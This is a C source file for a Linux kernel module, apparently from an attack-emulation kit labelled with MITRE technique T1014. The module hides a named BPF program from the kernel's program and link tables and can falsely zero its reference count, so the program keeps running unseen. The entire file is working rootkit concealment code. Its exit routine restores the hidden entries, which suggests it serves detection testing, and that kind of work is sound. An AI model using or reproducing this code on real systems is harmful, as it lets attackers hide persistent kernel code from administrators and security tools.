// SPDX-License-Identifier: GPL-2.0-only
/* Takes a BPF program out of the kernel's tables, and leaves it where it is called (T1014). */
#include "attack.h"

#include <linux/bpf.h>
#include <linux/filter.h>
#include <linux/idr.h>

static char *name = "ksma_kprobe";
module_param(name, charp, 0444);
static int links;
module_param(links, int, 0444);
MODULE_PARM_DESC(links, "1: takes its links out of their table too");
static int users;
module_param(users, int, 0444);
MODULE_PARM_DESC(users, "1: says that nobody uses it");

static struct bpf_prog *program;
static struct idr *programs;
static int number;
static u64 counted;

static int find(int id, void *entry, void *unused)
{
	struct bpf_prog *candidate = entry;

	if (strcmp(candidate->aux->name, name) != 0)
		return 0;
	program = candidate;
	number = id;
	return 1;
}

static int __init attack_init(void)
{
	struct idr *all_links = (struct idr *)attack_symbol("link_idr");
	struct bpf_link *link;
	int id;

	programs = (struct idr *)attack_symbol("prog_idr");
	if (!programs)
		return -ENOENT;
	idr_for_each(programs, find, NULL);
	if (!program)
		return -ESRCH;
	idr_remove(programs, number);
	if (links && all_links)
		idr_for_each_entry(all_links, link, id) if (link->prog == program)
			idr_remove(all_links, id);
	counted = atomic64_read(&program->aux->refcnt);
	if (users)
		atomic64_set(&program->aux->refcnt, 0);
	attack_log("name=%s id=%d value=0x%lx", name, number, (unsigned long)program);
	return 0;
}

static void __exit attack_exit(void)
{
	if (users)
		atomic64_set(&program->aux->refcnt, counted);
	idr_alloc(programs, program, number, number + 1, GFP_KERNEL);
}

module_init(attack_init);
module_exit(attack_exit);
